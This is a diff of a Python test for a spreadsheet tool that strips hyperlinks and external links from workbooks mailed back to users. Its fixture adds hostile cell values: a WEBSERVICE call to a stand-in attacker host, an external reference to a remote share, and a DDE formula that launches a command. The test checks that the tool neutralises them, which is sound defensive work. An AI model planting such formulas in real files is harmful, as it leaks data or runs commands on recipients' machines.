@@ -415,6 +415,10 @@ def test_links_are_removed_from_the_marked_copy_mailed_back(tmp_path):
     wb["党员名册"]["K3"].hyperlink = "\\\\dangzheng-server\\共享\\名单.xlsx"
     wb["支部信息"]["C2"].hyperlink = "https://example.org/track"
     wb["激励积分"]["H2"] = '=HYPERLINK("file://server/share/a.xlsx","看这里")'
+    wb["激励积分"]["I2"] = '=WEBSERVICE("http://evil.example/track")'
+    wb["激励积分"]["J2"] = "='\\\\evilhost\\share\\[x.xlsx]Sheet1'!A1"
+    wb["激励积分"]["K2"] = "=cmd|' /C calc'!A0"
+    wb["激励积分"]["L2"] = "=SUM(F2:F3)"  # an ordinary formula reaches nothing: it stays one
     wb.save(path)
     before = snapshot(inbox)
     result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
@@ -422,9 +426,9 @@ def test_links_are_removed_from_the_marked_copy_mailed_back(tmp_path):
     assert snapshot(inbox) == before
     problems = manifest(tmp_path / "out")["带链接.xlsx"]["problems"]
     assert {(p["sheet"], p["cell"], p["code"]) for p in problems} == {
-        ("激励积分", "F2", "score_above_item_max"), ("激励积分", "H2", "formula_uncalculated"),
-        ("", "", "links_removed")}
-    assert "4处超链接" in next(p["message"] for p in problems if p["code"] == "links_removed")
+        ("激励积分", "F2", "score_above_item_max"), ("", "", "links_removed"),
+        *(("激励积分", cell, "formula_uncalculated") for cell in ("H2", "I2", "J2", "K2", "L2"))}
+    assert "7处超链接" in next(p["message"] for p in problems if p["code"] == "links_removed")
     copy = tmp_path / "out" / "问题反馈" / "带链接_问题标注.xlsx"
     with zipfile.ZipFile(copy) as zf:
         rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
@@ -432,10 +436,11 @@ def test_links_are_removed_from_the_marked_copy_mailed_back(tmp_path):
     for trace in (b"file://", b"dangzheng-server", b"example.org"):
         assert trace not in rels, trace
     targets = re.findall(rb'/hyperlink" Target="([^"]*)"', rels)
-    assert len(targets) == 2 and all(t.startswith(b"#") for t in targets)  # only 问题清单's jumps to F2 and H2
-    assert b"<f>HYPERLINK" not in sheets  # the formula is kept as its text, inert
+    assert len(targets) == 6 and all(t.startswith(b"#") for t in targets)  # only 问题清单's jumps to its cells
+    formulas = re.findall(rb"<f>(.*?)</f>", sheets)
+    assert formulas and not [f for f in formulas if re.search(rb"HYPERLINK|WEBSERVICE|evilhost|cmd\|", f)]
     marked = load_workbook(copy)
-    assert marked["激励积分"]["H2"].data_type == "s"
+    assert [marked["激励积分"][c].data_type for c in ("H2", "I2", "J2", "K2", "L2")] == ["s", "s", "s", "s", "f"]
     listing = (tmp_path / "out" / "问题反馈" / "带链接_问题清单.txt").read_text(encoding="utf-8-sig")
     assert "[提醒]" in listing and "超链接或外部链接" in listing
     assert "超链接或外部链接" in str([c.value for c in marked["问题清单"]["F"]])
